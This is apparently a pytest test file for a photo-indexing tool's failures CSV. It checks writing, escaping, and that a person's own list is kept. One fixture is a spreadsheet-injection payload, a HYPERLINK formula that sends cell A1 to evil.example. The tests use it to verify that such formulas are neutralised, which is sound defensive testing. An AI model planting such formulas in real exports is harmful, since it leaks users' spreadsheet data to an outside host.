"""Lists of what a run left out: read by programs, and opened by people in a spreadsheet."""

import csv
import shutil
from argparse import Namespace
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cbir.commands import failures
from cbir.commands.options import Usage
from cbir.tables import like_a_formula
from cbir.types import Failure
from tests.conftest import Run

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"a.jpg")'
texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)


def listed(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def harmless(text: str) -> str:
    return f"'{text}" if like_a_formula(text) else text


@given(some=st.lists(st.builds(Failure, texts, texts), min_size=1, max_size=5))
@example(some=[Failure(FORMULA, "it is not there"), Failure("a,b\n.jpg", '"quoted"')])
def test_a_list_has_all_that_failed_and_no_formula(
    some: list[Failure], tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("list") / "new/failures.csv"
    failures.write(path, some)
    assert listed(path) == [["id", "reason"], *([*map(harmless, one)] for one in some)]
    assert failures.is_list(path)


def test_a_table_s_formula_does_not_come_out_of_it(photos: Path, run: Run) -> None:
    with open(photos / "t.csv", "w", newline="") as file:
        csv.writer(file).writerows([["picture"], ["a.jpg"], [FORMULA]])
    done = run("index", "--dataset", "t.csv", cwd=photos)
    assert done.returncode == 1
    (_, (id, reason)) = listed(photos / "failures.csv")
    assert id == f"'{FORMULA.replace('https://', 'https:/')}"
    assert reason == "it is not there"


def test_names_that_are_not_utf8_are_escaped(tmp_path: Path) -> None:
    failures.write(tmp_path / "f.csv", [Failure("caf\udce9.jpg", "a pipe")])
    assert listed(tmp_path / "f.csv")[1] == ["caf\\udce9.jpg", "a pipe"]


# --- whose list it is


def run_of(command: str, **more: str) -> Namespace:
    return Namespace(**{"command": command, "failures": None} | more)


SOME = [Failure("a.jpg", "it is empty")]


def test_a_good_run_removes_the_list_of_the_same_run(tmp_path: Path) -> None:
    index, fit = run_of("index"), run_of("fit")
    path = tmp_path / "failures.csv"
    assert failures.listed(index, tmp_path, SOME, of=tmp_path / "index.csv") == path
    assert failures.listed(index, tmp_path, [], of=tmp_path / "other.csv") is None
    assert failures.listed(fit, tmp_path, [], of=tmp_path / "index.csv") is None
    assert listed(path) == [["id", "reason"], ["a.jpg", "it is empty"]]
    assert failures.listed(index, tmp_path, [], of=tmp_path / "index.csv") is None
    assert list(tmp_path.iterdir()) == []


def test_a_list_takes_the_place_of_one_that_nobody_has_touched(tmp_path: Path) -> None:
    path, other = tmp_path / "failures.csv", tmp_path / "failures-2.csv"
    assert failures.listed(run_of("index"), tmp_path, SOME) == path
    assert failures.listed(run_of("fit"), tmp_path, SOME * 2) == path
    assert len(listed(path)) == 3
    path.write_text(path.read_text() + "b.jpg,to be looked at\n")
    assert failures.listed(run_of("fit"), tmp_path, SOME) == other
    assert failures.listed(run_of("fit"), tmp_path, SOME * 4) == other
    assert (len(listed(path)), len(listed(other))) == (4, 5)
    assert failures.listed(run_of("fit"), tmp_path, []) is None
    assert (path.exists(), other.exists()) == (True, False)


def test_a_person_s_list_stays(photos: Path, run: Run) -> None:
    """Even if it has our header and name, and in the way of a run where something fails."""
    (photos / "failures.csv").write_text("id,reason\nb.jpg,blurred\n")
    (photos / "set").mkdir()
    shutil.move(photos / "a.jpg", photos / "set")
    assert run("index", "--dataset", "set", cwd=photos).returncode == 0
    (photos / "set/bad.jpg").touch()
    done = run("index", "--dataset", "set", cwd=photos)
    assert done.returncode == 1
    assert "failures-2.csv" in done.stderr
    assert (photos / "failures.csv").read_text() == "id,reason\nb.jpg,blurred\n"
    (photos / "set/bad.jpg").unlink()
    assert run("index", "--dataset", "set", cwd=photos).returncode == 0
    assert not list(photos.glob("*failures-2*"))


def test_a_list_in_a_place_of_its_own_is_of_the_last_run(photos: Path, run: Run) -> None:
    (photos / "set").mkdir()
    shutil.move(photos / "a.jpg", photos / "set")
    flags = ("index", "--dataset", "set", "--failures", "f.csv")
    assert run(*flags, cwd=photos).returncode == 0
    assert not (photos / "f.csv").exists()
    (photos / "set/bad.jpg").touch()
    assert run(*flags, cwd=photos).returncode == 1
    assert len(listed(photos / "f.csv")) == 2
    (photos / "set/bad.jpg").unlink()
    assert run(*flags, cwd=photos).returncode == 0
    assert listed(photos / "f.csv") == [["id", "reason"]]


def test_a_list_that_can_not_be_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Not to be seen by root, who may read everything: so the reading itself fails here."""

    def refused(path: Path) -> bool:
        raise PermissionError(13, "Permission denied")

    (tmp_path / "f.csv").write_text("id,reason\n")
    monkeypatch.setattr(failures, "is_list", refused)
    with pytest.raises(Usage, match="read: no permission"):
        failures.check_place(tmp_path / "f.csv", ())
